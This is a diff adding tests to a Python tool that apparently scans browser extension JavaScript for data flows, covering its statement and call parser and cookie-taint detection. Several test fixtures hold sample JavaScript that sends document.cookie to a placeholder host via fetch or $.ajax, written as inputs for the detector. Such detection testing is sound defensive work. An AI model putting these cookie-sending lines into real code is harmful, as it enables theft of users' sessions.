@@ -10,7 +10,7 @@ from hypothesis import strategies as st
 from pyspark.sql import functions as F
 
 from packsift.functions import paths, text, urls
-from packsift.operators import findings, narrate, review, scoring, signals
+from packsift.operators import dataflow, findings, lexical, narrate, review, scoring, signals
 from packsift.catalog import findings as K
 
 
@@ -162,3 +162,36 @@ def test_every_rule_signal_is_known():
 
     assert len(C.RULES) == 110 and all(s in C.SIGNALS for r in C.RULES for s in (r[3] or []))
     assert set(C.STATES) == {c[0] for c in C.CATEGORIES}
+
+
+# --- statements and calls -------------------------------------------------------------------
+
+def found_calls(code):
+    return {(line, name): args for line, _, stmt in lexical.statements_of(code) for _, name, _, args in lexical.calls_of(stmt)}
+
+
+def test_calls_keep_the_arguments_of_all_their_lines():
+    code = 'const u = 1;\nfetch("https://x", {\n  method: "POST",\n  body: document.cookie\n});\nsend(u);'
+    assert found_calls(code) == {(2, "fetch"): '"https://x", {   method: "POST",   body: document.cookie }', (6, "send"): "u"}
+    mixed = '$.ajax({\n  url: "u",\n  success: function (r) {\n    const a = r\n    use(a); more(b)\n  },\n  data: document.cookie\n});'
+    assert [(a, c) for a, _, c in lexical.statements_of(mixed)][1:] == [(4, "const a = r"), (5, "use(a)"), (5, "more(b)")]
+    assert "data: document.cookie" in found_calls(mixed)[1, "$.ajax"]
+    # blocks inside brackets hold statements of their own, and a bracket without a partner joins nothing
+    assert found_calls("(function () {\n  const a = document.cookie\n  fetch(u + a)\n})();")[3, "fetch"] == "u + a"
+    assert found_calls("text (open here\nnext line\nf(1); g(2)") == {(1, "text"): "open here", (3, "f"): "1", (3, "g"): "2"}
+
+
+def test_literals_honour_backslashes():
+    assert found_calls(r'a = "say \"hi"; fetch(u + document.cookie); b = "z"') == {(1, "fetch"): "u + document.cookie"}
+    assert found_calls(r"f('it\'s (', x); g('\\'); h(`\``, 1)") == {(1, "f"): r"'it\'s (', x", (1, "g"): r"'\\'", (1, "h"): r"`\``, 1"}
+    assert found_calls("r = /[\"(]/; fetch(a); s = 'x'") == {(1, "fetch"): "a"}
+
+
+def test_flows_of_calls_over_lines_and_behind_escapes(spark):
+    rows = [("e", "a.js", 'fetch("https://x", {\n  method: "POST",\n  body: document.cookie\n});'),
+            ("e", "b.js", r'a = "say \"hi"; fetch(u + document.cookie); b = "z"'), ("e", "c.js", 'fetch("https://x (", {\n  body: 1\n});\nconst a = document.cookie;')]
+    stmts = lexical.statements(spark.createDataFrame(rows, "ext_id string, path string, code string")).cache()
+    found = dataflow.flows(lexical.call_sites(stmts), lexical.assignments(stmts), dataflow.tainted_variables(stmts))
+    assert sorted((r.path, r.line, r.source) for r in found.collect()) == [("a.js", 1, "document.cookie"), ("b.js", 1, "document.cookie")]
+    one = spark.createDataFrame([(r'"a \" b", c',)], "t string").select(lexical.first_literal(F.col("t")), lexical.without_literals(F.col("t"))).collect()[0]
+    assert tuple(one) == (r"a \" b", '"", c')
